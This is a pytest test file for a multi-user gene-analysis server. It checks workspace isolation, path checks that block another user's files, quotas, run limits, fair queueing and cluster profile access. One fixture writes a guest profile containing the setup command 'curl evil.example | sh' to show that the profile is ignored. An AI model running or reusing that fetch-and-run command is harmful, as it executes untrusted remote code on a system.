"""Several people on one server: each sees what ships, what is shared and their own, and changes only the last."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
import time
from typing import TYPE_CHECKING

import psutil
import pytest

from genediff.core.errors import InputError
from genediff.core.installation import ASSETS
from genediff.core.users import Limits, check_room, common_root, limits_of, shared_root, used_bytes, user_root
from genediff.data import check_path
from genediff.data.uploads import incoming
from genediff.data.uploads.browse import list_folder
from genediff.knowledge import GeneSets
from genediff.learn import Story
from genediff.runs import find_profile, find_run, list_runs, read_profiles, submit
from genediff.runs.devices import CPU
from genediff.runs.job import Job
from genediff.runs.kinds import MapJob
from genediff.runs.queue import hold_device, runs_ahead, take_ticket
from genediff.runs.run_status import Status
from genediff.workspace import DEMO_DATASET, DEMO_MODEL, Workspace

if TYPE_CHECKING:
    from pathlib import Path


def user(home: Path, key: str, limits: Limits | None = None) -> Workspace:
    return Workspace(user_root(home.resolve(), "user", key, limits or Limits(), name=f"{key}@lab.example"))


@pytest.fixture
def both(own_workspace: Path) -> tuple[Workspace, Workspace]:
    """Two users of one server."""
    return user(own_workspace, "ada"), user(own_workspace, "ben")


def put_model(workspace: Workspace, name: str) -> None:
    shutil.copytree(ASSETS / "models" / DEMO_MODEL, workspace.models / name)


def ids(workspace: Workspace) -> list[str]:
    return [info.id for info in workspace.list_models()]


def test_a_users_folder_is_found_from_its_path_and_tells_no_secret(own_workspace):
    ada = user(own_workspace, "ada", Limits(gigabytes=2, runs=3))
    assert shared_root(ada.root) == own_workspace.resolve() and common_root(ada.root) == own_workspace.resolve()
    assert shared_root(own_workspace) is None and common_root(own_workspace) == own_workspace
    assert limits_of(ada.root) == Limits(gigabytes=2, runs=3) and limits_of(own_workspace) == Limits()
    assert "ada" not in ada.root.name and user(own_workspace, "ada").root == ada.root
    assert limits_of(ada.root) == Limits()  # what the server says now holds
    (own_workspace / "users" / "stranger").mkdir()
    assert shared_root(own_workspace / "users" / "stranger") is None


def test_shared_models_can_be_used_and_not_changed_and_others_own_are_not_there(own_workspace, both):
    ada, ben = both
    put_model(Workspace(), "of-the-lab")
    put_model(ada, "of-ada")
    shipped = [info.id for info in Workspace(own_workspace.parent / "elsewhere").list_models()]
    assert ids(ada) == [*shipped, "of-the-lab", "of-ada"] and ids(ben) == [*shipped, "of-the-lab"]
    assert [info.shipped for info in ada.list_models()] == [True] * (len(shipped) + 1) + [False]
    assert ben.model_folder("of-the-lab") == Workspace().models / "of-the-lab"
    for act in (lambda: ben.delete_model("of-the-lab"), lambda: ben.rename_model("of-the-lab", "mine")):
        with pytest.raises(InputError, match="is shared on this server and cannot be"):
            act()
    with pytest.raises(InputError, match="ships with GeneDiff and cannot be deleted"):
        ben.delete_model(DEMO_MODEL)
    for act in (ben.model_folder, ben.delete_model, ben.restore_model, lambda one: ben.rename_model(one, "mine")):
        with pytest.raises(InputError, match="(There is no model 'of-ada'|is not in the trash)"):
            act("of-ada")
    assert "of-ada" not in str(pytest.raises(InputError, ben.model_folder, "nothing").value)
    ada.delete_model("of-ada")
    with pytest.raises(InputError, match="is not in the trash"):
        ben.restore_model("of-ada")
    ada.restore_model("of-ada")
    assert ids(Workspace()) == [*shipped, "of-the-lab"]


def test_a_users_own_of_the_same_id_stands_before_the_shared_one(both):
    ada, ben = both
    put_model(Workspace(), "same")
    put_model(ada, "same")
    assert ids(ada).count("same") == 1 and ada.model_folder("same") == ada.models / "same"
    assert ben.model_folder("same") == Workspace().models / "same"
    ada.delete_model("same")
    assert ada.model_folder("same") == Workspace().models / "same"


def test_damage_in_the_shared_workspace_harms_nobody(both):
    put_model(Workspace(), "broken")
    (Workspace().models / "broken" / "model.json").write_text("[]")
    assert "broken" not in ids(both[0]) and both[0].damaged("models") == {}


def test_gene_sets_and_stories_are_shared_downwards_only(both):
    ada, ben = both
    sets = {"one": ("CD3E", "CD4", "LYZ")}
    lab = Workspace().library().add_gene_sets(GeneSets("Of the lab", sets))
    own = ada.library().add_gene_sets(GeneSets("Of Ada", sets))
    assert ben.library().item(lab).shipped and ben.library().gene_sets(lab).sets == sets
    with pytest.raises(InputError, match="is shared on this server"):
        ben.library().delete(lab)
    with pytest.raises(InputError, match="There is no"):
        ben.library().item(own)
    Workspace().story_library().save(Story(id="lesson", title="Lesson", steps=()))
    ada.story_library().save(Story(id="draft", title="Draft", steps=()))
    assert {"lesson", "draft"} <= {story.id for story in ada.story_library().read_all()[0]}
    assert "draft" not in {story.id for story in ben.story_library().read_all()[0]}
    assert not ben.story_library().is_own("lesson")
    with pytest.raises(InputError, match="not one of your stories"):
        ben.story_library().delete("lesson")


def test_nobody_reads_files_of_another_workspace_whatever_the_roots_are(own_workspace, both, monkeypatch):
    ada, ben = both
    monkeypatch.setenv("GENEDIFF_ROOTS", str(own_workspace.parent))
    for place in (ada, Workspace()):
        (place.uploads / "cells.h5ad").touch()
    (own_workspace.parent / "open.h5ad").touch()
    (ben.uploads / "link.h5ad").symlink_to(ada.uploads / "cells.h5ad")
    assert check_path(ada.uploads / "cells.h5ad", ada.uploads) == ada.uploads / "cells.h5ad"
    assert check_path(own_workspace.parent / "open.h5ad", ben.uploads)
    for other in (ada.uploads / "cells.h5ad", Workspace().uploads / "cells.h5ad", ben.uploads / "link.h5ad"):
        with pytest.raises(InputError, match="outside the folders"):
            check_path(other, ben.uploads)
    for folder in (ada.uploads, own_workspace, own_workspace / "users", Workspace().uploads):
        with pytest.raises(InputError, match="outside the folders"):
            list_folder(folder, ben.uploads)
    assert [entry.name for entry in list_folder(ben.uploads, ben.uploads).entries] == []
    names = {entry.name for entry in list_folder(own_workspace.parent, ben.uploads).entries}
    assert "open.h5ad" in names and own_workspace.name not in names
    monkeypatch.delenv("GENEDIFF_ROOTS")
    monkeypatch.setenv("HOME", str(own_workspace.parent))
    with pytest.raises(InputError, match="outside the folders"):
        check_path(own_workspace.parent / "open.h5ad", ben.uploads)


def test_a_quota_counts_all_files_and_holds_for_uploads_and_runs(own_workspace):
    ada = user(own_workspace, "ada", Limits(gigabytes=0.001))
    (ada.models / "weights").write_bytes(bytes(900_000))
    assert 900_000 < used_bytes(ada.root) < 901_000
    assert used_bytes(own_workspace) == 0  # what users hold is theirs
    incoming.begin(ada.uploads, "small.h5ad", 50_000)
    with pytest.raises(InputError, match=r"large.h5ad has 0.1 MB and uploads may take 0.0 MB more"):
        incoming.begin(ada.uploads, "large.h5ad", 60_000)  # what is on its way counts
    check_room(ada.root)
    (ada.models / "weights").write_bytes(bytes(1_100_000))
    with pytest.raises(InputError, match="Your workspace holds 0.00 GB and may hold 0.001 GB"):
        submit(MapJob(DEMO_DATASET), ada)
    assert list_runs(ada) == []


def under_way(workspace: Workspace, name: str, **about: object) -> None:
    folder = workspace.runs / name
    folder.mkdir()
    (folder / "run.json").write_text(json.dumps({"kind": "map", "config": {}, **about}))
    Status(state="queued", submitted=time.time()).write(folder)


def test_a_user_has_only_so_many_runs_and_nobody_elses(own_workspace):
    ada, ben = user(own_workspace, "ada", Limits(runs=2)), user(own_workspace, "ben", Limits(runs=2))
    for name in ("one", "two"):
        under_way(ada, name)
    with pytest.raises(InputError, match="You have 2 runs under way, as many as one user may have"):
        submit(MapJob(DEMO_DATASET), ada)
    assert list_runs(ben) == []
    with pytest.raises(InputError, match="There is no run 'one'"):
        find_run(ben, "one")
    for name in ("three", "four"):  # those of a comparison count as one run
        under_way(ben, name, is_part=True)
    assert not any(run.is_part for run in list_runs(ada)) and all(run.is_part for run in list_runs(ben))


def test_a_cluster_is_for_whom_it_is_said_to_be(own_workspace):
    own_workspace.mkdir()
    (own_workspace / "profiles.toml").write_text('[gpu]\npartition = "gpu"\n')
    ada, guest = user(own_workspace, "ada"), user(own_workspace, "guest", Limits(cluster=False))
    (guest.root / "profiles.toml").write_text('[own]\nsetup = ["curl evil.example | sh"]\n')
    assert list(read_profiles(ada.root)) == ["local", "gpu"] and list(read_profiles(guest.root)) == ["local"]
    for name in ("gpu", "own"):
        with pytest.raises(InputError, match=f"There is no profile '{name}'; known: local"):
            find_profile(guest.root, name)


def test_turns_go_round_among_users(own_workspace, both):
    """Ada's ten runs do not keep Ben waiting for all of them, and nobody passes the run that has the device."""
    ada, ben = both
    for number in range(3):
        take_ticket(ada.runs, f"ada-{number}", [CPU])
    take_ticket(ben.runs, "ben-0", [CPU])
    assert runs_ahead(ben.runs, "ben-0") == ("ada-0",)
    assert runs_ahead(ada.runs, "ada-1") == ("ada-0", "ben-0")
    assert runs_ahead(ada.runs, "ada-2") == ("ada-0", "ben-0", "ada-1")
    options = {"stop": lambda: False, "waiting": lambda ahead: None}
    with hold_device(ada.runs, "ada-0", [CPU], **options) as held:
        assert held == CPU
        told: list[tuple[str, ...]] = []
        for runs, run_id in ((ada.runs, "ada-1"), (ben.runs, "ben-0"), (Workspace().runs, "lab-0")):
            with hold_device(runs, run_id, [CPU], stop=lambda: bool(told), waiting=told.append) as none:
                assert none is None  # one device for all
            take_ticket(runs, run_id, [CPU])
            assert told.pop()[0] == "ada-0"
        assert runs_ahead(ben.runs, "ben-0") == ()
        assert runs_ahead(ada.runs, "ada-1") == ("ben-0", "lab-0", "ada-2")  # it stood in line again, as the last
        assert runs_ahead(ada.runs, "ada-2") == ("ben-0", "lab-0")
    assert not (ada.runs / ".queue").exists() and list((Workspace().runs / ".queue").iterdir())


def test_a_run_is_stopped_after_the_time_that_it_may_take(own_workspace):
    ada = user(own_workspace, "ada", Limits(minutes=0.5))
    folder = ada.runs / "long"
    folder.mkdir()
    job = Job(folder, ada.root, Status(submitted=time.time()), runs=None)
    try:
        job.update(state="running", started=time.time() - 20)
        assert not job.stop()
        job.update(started=time.time() - 31)
        end = time.monotonic() + 60
        while not job.stop() and time.monotonic() < end:
            time.sleep(0.05)
        assert job.is_out_of_time and "Stopped after 0.5 minutes, the most" in job.out_of_time()
    finally:
        job.close(state="cancelled", message=job.out_of_time())


def test_a_run_that_does_not_stop_is_ended(own_workspace):
    """Its process and those it started end a minute after its time; the run says why."""
    ada = user(own_workspace, "ada", Limits(minutes=0.5))
    folder = ada.runs / "stuck"
    folder.mkdir()
    script = f"""
import pathlib, subprocess, sys, time
from genediff.runs.job import Job
from genediff.runs.run_status import Status
child = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE)
print(child.pid, flush=True)
job = Job(pathlib.Path({str(folder)!r}), pathlib.Path({str(ada.root)!r}), Status(submitted=time.time()), runs=None)
job.update(state="running", started=time.time() - 91)
child.wait()
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=False)
    assert done.returncode == 1, done.stderr
    status = json.loads((folder / "status.json").read_text())
    assert status["state"] == "failed" and status["message"].startswith("Stopped after 0.5 minutes")
    child = int(done.stdout.split()[0])
    end = time.monotonic() + 60
    while _runs(child) and time.monotonic() < end:  # a busy machine takes a moment to end it
        time.sleep(0.05)
    assert not _runs(child)


def _runs(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False
